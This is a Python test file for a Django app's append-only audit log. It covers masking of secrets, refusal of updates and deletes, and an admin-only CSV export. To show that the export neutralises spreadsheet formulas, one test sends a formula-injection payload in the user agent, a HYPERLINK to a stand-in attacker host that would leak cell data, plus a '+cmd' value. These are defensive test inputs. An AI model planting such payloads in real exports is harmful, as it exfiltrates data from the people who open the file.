"""The audit trail: who / where / channel / old → new, append-only, no secrets, administrators' CSV."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from celery import shared_task
from django.db import DatabaseError, connection, transaction
from django.test import Client, override_settings
from django.urls import path
from rest_framework.response import Response
from rest_framework.views import APIView

from core.audit import audit_record
from core.models import AppendOnlyError, AuditEvent
from core.roles import Role
from core.tokens import token_issue
from integrations.models import MarketplaceAccount
from tests.foundation_support import client_for, make_account, make_user

pytestmark = pytest.mark.django_db

BROWSER = {"REMOTE_ADDR": "203.0.113.7", "HTTP_USER_AGENT": "Mozilla/5.0 (X11) Firefox/140.0"}


class AuditedWrite(APIView):
    """An API write that records an event through a service-like call: no request passed down."""

    def post(self, request: Any) -> Response:
        audit_record(action="test.api_write", details={"note": "via the API"})
        return Response({"ok": True}, status=201)


urlpatterns = [path("api/v1/test-audited-write/", AuditedWrite.as_view())]


def test_a_web_change_records_who_where_and_old_to_new() -> None:
    admin, analyst = make_user(Role.ADMIN, "boss"), make_user(Role.ANALYST, "anna")

    response = client_for(admin).post(f"/settings/users/{analyst.pk}/role/", {"role": "manager"}, **BROWSER)

    assert response.status_code == 302
    event = AuditEvent.objects.get(action="user.role_changed")
    assert (event.channel, event.ip, event.user_agent) == ("web", "203.0.113.7", BROWSER["HTTP_USER_AGENT"])
    assert (event.actor, event.actor_label, event.token) == (admin, "boss", None)
    assert (event.old, event.new) == ({"role": "analyst"}, {"role": "manager"})
    listed = client_for(admin).get("/settings/audit/").content.decode()
    assert 'role: <span class="muted">analyst</span> → manager' in listed


@override_settings(ROOT_URLCONF=__name__)
def test_an_api_change_records_the_token_and_the_api_channel() -> None:
    manager = make_user(Role.MANAGER, "robot-owner")
    issued = token_issue(user=manager, name="1C")

    response = Client(HTTP_AUTHORIZATION=f"Bearer {issued.secret}", **BROWSER).post("/api/v1/test-audited-write/")

    assert response.status_code == 201
    event = AuditEvent.objects.get(action="test.api_write")
    assert (event.channel, event.actor, event.token_id, event.ip) == ("api", manager, issued.token.pk, "203.0.113.7")


def test_an_account_key_change_shows_masked_hints_only() -> None:
    admin = make_user(Role.ADMIN)
    account = make_account("ozon", name="Main", secret="old-secret-1111")
    form = {"name": "Main", "client_id": "100500", "secret": "new-secret-2222", "enabled": "on"}

    client_for(admin).post(f"/settings/accounts/{account.pk}/", form, **BROWSER)

    event = AuditEvent.objects.get(action="account.key_changed")
    assert event.channel == "web" and event.actor == admin
    assert event.old == {"credentials_hint": "••••1111"} and event.new == {"credentials_hint": "••••2222"}
    stored = str(AuditEvent.objects.values_list("old", "new", "details"))
    assert "old-secret" not in stored and "new-secret" not in stored
    assert MarketplaceAccount.objects.get().credentials_hint == "••••2222"


def test_an_account_field_change_records_old_and_new() -> None:
    account = make_account("ozon", name="Main")
    client_for(make_user(Role.ADMIN)).post(
        f"/settings/accounts/{account.pk}/", {"name": "Main", "client_id": "200600", "enabled": "on"}
    )
    event = AuditEvent.objects.get(action="account.updated")
    assert (event.old, event.new) == ({"client_id": "100500"}, {"client_id": "200600"})


def test_outside_a_request_the_system_channel_is_recorded() -> None:
    event = audit_record(action="test.system")
    assert (event.channel, event.ip, event.actor) == ("system", None, None)


def test_secret_values_are_masked_whatever_the_caller_passes() -> None:
    event = audit_record(
        action="test.secrets",
        details={
            "api_key": "sk-live-123456",
            "nested": [{"password": "hunter2", "client_secret": "cs-9"}],
            "note": "called with Authorization: Bearer abc.def.ghi",
            "key_hint": "••••3456",
            "token_expires_at": "2027-01-01",
            "primary_key_id": "k2026a",
        },
        old={"token": "wb-jwt-old"},
        new={"token": "wb-jwt-new"},
    )
    event.refresh_from_db()
    stored = str((event.details, event.old, event.new))
    for secret in ("sk-live-123456", "hunter2", "cs-9", "abc.def.ghi", "wb-jwt-old", "wb-jwt-new"):
        assert secret not in stored
    assert event.details["api_key"] == "••••" and event.old == {"token": "••••"}
    assert (event.details["key_hint"], event.details["token_expires_at"], event.details["primary_key_id"]) == (
        "••••3456",
        "2027-01-01",
        "k2026a",
    )


def test_events_refuse_update_and_delete_in_the_model() -> None:
    event = audit_record(action="test.immutable", details={"n": 1})
    event.action = "test.rewritten"
    with pytest.raises(AppendOnlyError):
        event.save()
    with pytest.raises(AppendOnlyError):
        event.delete()
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.filter(pk=event.pk).update(action="test.rewritten")
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.filter(pk=event.pk).delete()
    assert AuditEvent.objects.get(pk=event.pk).action == "test.immutable"


@pytest.mark.parametrize(
    "sql", ["UPDATE core_auditevent SET action = 'x' WHERE id = %s", "DELETE FROM core_auditevent WHERE id = %s"]
)
def test_the_database_refuses_update_and_delete(sql: str) -> None:
    event = audit_record(action="test.immutable")
    with pytest.raises(DatabaseError, match="append-only"), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(sql, [event.pk])
    assert AuditEvent.objects.get(pk=event.pk).action == "test.immutable"


def test_a_user_who_acted_cannot_be_deleted_only_deactivated() -> None:
    from django.db.models import ProtectedError

    admin = make_user(Role.ADMIN)
    audit_record(action="test.by_admin", actor=admin)
    with pytest.raises(ProtectedError):
        admin.delete()


def _csv(response: Any) -> tuple[bytes, list[list[str]]]:
    raw = b"".join(response.streaming_content)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_export_is_for_excel_and_neutralises_formulas() -> None:
    admin = make_user(Role.ADMIN, "boss")
    victim = make_user(Role.ANALYST, "anna")
    evil = {**BROWSER, "HTTP_USER_AGENT": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
    client_for(admin).post(f"/settings/users/{victim.pk}/role/", {"role": "manager"}, **evil)
    audit_record(action="test.other", details={"name": "+cmd"})

    response = client_for(admin).get("/settings/audit.csv?action=user.")

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    raw, rows = _csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    header, *events = rows
    assert header[:3] == ["id", "created_at", "channel"] and len(events) == 1  # the filter applies
    row = dict(zip(header, events[0], strict=True))
    assert row["user_agent"] == "'" + evil["HTTP_USER_AGENT"]
    assert (row["channel"], row["actor"], row["ip"]) == ("web", "boss", "203.0.113.7")
    assert row["action"] == "user.role_changed"
    assert '"role": "analyst"' in row["old"] and '"role": "manager"' in row["new"]


def test_the_audit_list_filters_and_is_for_administrators_only(django_assert_max_num_queries: Any) -> None:
    admin = make_user(Role.ADMIN, "boss")
    for n in range(30):
        audit_record(action="account.updated" if n % 2 else "user.role_changed", actor=admin, details={"n": n})

    client = client_for(admin)
    client.get("/settings/audit/")  # warm the session and role caches
    with django_assert_max_num_queries(12):
        page = client.get("/settings/audit/?action=account.&channel=system&actor=boss")
    assert page.status_code == 200
    assert page.content.decode().count("<code>account.updated</code>") == 15
    assert "user.role_changed" not in page.content.decode()
    for role in (Role.MANAGER, Role.ANALYST):
        assert client_for(make_user(role)).get("/settings/audit/").status_code == 403
        assert client_for(make_user(role)).get("/settings/audit.csv").status_code == 403
    assert Client().get("/settings/audit.csv").status_code == 302


@shared_task(name="tests.audit_in_a_task")  # type: ignore[untyped-decorator]
def audit_in_a_task() -> None:
    audit_record(action="test.from_task")


def test_a_background_task_records_the_sync_channel_and_its_name() -> None:
    audit_in_a_task.apply()  # runs here, with Celery's task signals, as a worker would

    event = AuditEvent.objects.get(action="test.from_task")
    assert (event.channel, event.actor_label, event.actor) == ("sync", "task:tests.audit_in_a_task", None)
    assert audit_record(action="test.after_task").channel == "system"  # the task's context ended with it
